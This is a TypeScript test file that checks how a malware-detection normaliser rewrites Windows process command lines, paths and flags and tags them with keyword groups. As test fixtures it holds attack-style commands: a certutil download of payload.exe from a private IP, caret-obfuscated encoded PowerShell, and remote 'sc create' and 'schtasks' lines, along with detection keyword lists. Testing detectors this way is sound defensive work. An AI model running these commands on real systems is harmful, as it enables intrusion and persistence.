import { describe, expect, it } from 'vitest';
import { CARET_CMD, CERTUTIL, EMPTY, LOOKALIKE, REMOTE_SC, RUNDLL_HEX } from './golden-events.test-fixtures.js';
import { KEYWORD_GROUPS, legacyBlocklistMatch, positionalBigrams } from './parity-keywords.js';
import { normalizeCommandLine, normalizedPpath, parityFields } from './parity-normalize.js';

const flags = (cmd: string): string[] => KEYWORD_GROUPS.filter((g) => g.test(cmd)).map((g) => g.id);

describe('ProblemChild parity normalisation (golden)', () => {
  it('certutil download: mismatch is case-sensitive, user name removed, quotes dropped, download flag', () => {
    const p = parityFields(CERTUTIL);
    expect(p.processName).toBe('certutil.exe');
    expect(p.originalFileName).toBe('CertUtil.exe');
    expect(p.filenameMismatch).toBe(true);
    expect(p.endsWithExe).toBe(true);
    expect(p.runningAsSystem).toBe(false);
    expect(p.normalizedPpath).toBe('win_system_dir');
    expect(p.executable).toBe('c:\\win_system_dir\\certutil.exe');
    expect(p.parentExecutable).toBe('c:\\win_system_dir\\cmd.exe');
    expect(p.commandLine).toBe('certutil.exe -urlcache -split -f http://10.0.0.5/payload.exe c:\\users\\appdata\\local\\temp\\p.exe');
    expect(p.integrityLevel).toBe('medium');
    expect(p.cmdObfuscation).toBe(false);
    expect(flags(p.commandLine)).toEqual(['download_cradle']);
  });

  it('caret obfuscation: flag set, carets removed, -enc is defense evasion, SYSTEM sid', () => {
    const p = parityFields(CARET_CMD);
    expect(p.cmdObfuscation).toBe(true);
    expect(p.commandLine).toBe('cmd.exe /c powershell -enc sqbfafga');
    expect(p.runningAsSystem).toBe(true);
    expect(p.filenameMismatch).toBe(true); // compared with 'unknown'
    expect(p.originalFileName).toBe('unknown');
    expect(flags(p.commandLine)).toEqual(['defense_evasion']);
  });

  it('gsub order: GUID → process_id, 0x… and 8-hex runs → hex, then long numbers → num (hash rule starved)', () => {
    expect(parityFields(RUNDLL_HEX).commandLine).toBe('rundll32.exe c:\\win_system_dir\\shell32.dll,control_rundll {process_id} hex num hexcafe');
    expect(normalizeCommandLine('x ' + 'a'.repeat(32))).toBe('x hexhexhexhex');
    expect(normalizeCommandLine('C:\\\\Temp\\\\\\x')).toBe('c:\\temp\\x');
    expect(parityFields(RUNDLL_HEX).normalizedPpath).toBe('win_system_dir');
  });

  it('user folders: ppath table order and user-name removal', () => {
    const p = parityFields(LOOKALIKE);
    expect(p.normalizedPpath).toBe('win_user_downloads');
    expect(p.executable).toBe('c:\\users\\downloads\\svch0st.exe');
    expect(p.filenameMismatch).toBe(false);
    expect(normalizedPpath('c:\\users\\bob\\appdata\\local\\temp\\x.exe')).toBe('win_user_appdata_local_temp');
    expect(normalizedPpath('c:\\users\\bob\\appdata\\roaming\\x.exe')).toBe('win_user_appdata');
    expect(normalizedPpath('c:\\users\\bob\\x.exe')).toBe('win_user_dir');
    expect(normalizedPpath('c:\\users')).toBe('win_users_root_dir');
    expect(normalizedPpath('c:\\program files (x86)\\x\\y.exe')).toBe('win_program_files');
    expect(normalizedPpath('c:\\programdata\\y.exe')).toBe('win_program_data_dir');
    expect(normalizedPpath('c:\\$recycle.bin\\y.exe')).toBe('win_recycle_bin_dir');
    expect(normalizedPpath('c:\\windows\\temp\\y.exe')).toBe('win_temp_dir');
    expect(normalizedPpath('c:\\windows\\y.exe')).toBe('win_dir');
    expect(normalizedPpath('d:\\')).toBe('win_root');
    expect(normalizedPpath('\\\\server\\share\\y.exe')).toBe('unknown');
  });

  it('the "sc " ∧ "\\\\\\\\" lateral-movement clause never fires after backslash collapsing', () => {
    const p = parityFields(REMOTE_SC);
    expect(p.commandLine).toBe('sc \\dc01 create evil binpath= c:\\x.exe');
    expect(flags(p.commandLine)).toEqual([]);
    expect(flags('schtasks /create /s host /tn x')).toEqual(['lateral_movement', 'persistence']);
    expect(flags('net  localgroup administrators')).toEqual(['recon']);
    expect(flags('certutil -encode a b')).toEqual(['download_cradle', 'exfiltration']);
  });

  it('missing fields fall back to "unknown"', () => {
    const p = parityFields(EMPTY);
    expect([p.processName, p.parentName, p.commandLine, p.executable, p.userId]).toEqual(['unknown', 'unknown', 'unknown', 'unknown', 'unknown']);
    expect(p.endsWithExe).toBe(false);
    expect(p.normalizedPpath).toBe('unknown');
    expect(p.elevated).toBe(false);
  });

  it('positional bigrams: last position is "", 100-char truncation, 1 char gives [""]', () => {
    expect(positionalBigrams('cmd.exe')).toEqual(['cm', 'md', 'd.', '.e', 'ex', 'xe', '']);
    expect(positionalBigrams('a')).toEqual(['']);
    expect(positionalBigrams('')).toEqual([]);
    const long = positionalBigrams('x'.repeat(150));
    expect(long).toHaveLength(100);
    expect(long[98]).toBe('xx');
    expect(long[99]).toBe('');
  });

  it('legacy blocklist matches plain substrings (noisy by design)', () => {
    expect(legacyBlocklistMatch('reg query hkcu\\software\\key')).toBe('key');
    expect(legacyBlocklistMatch('notepad.exe readme.txt')).toBeUndefined();
  });
});
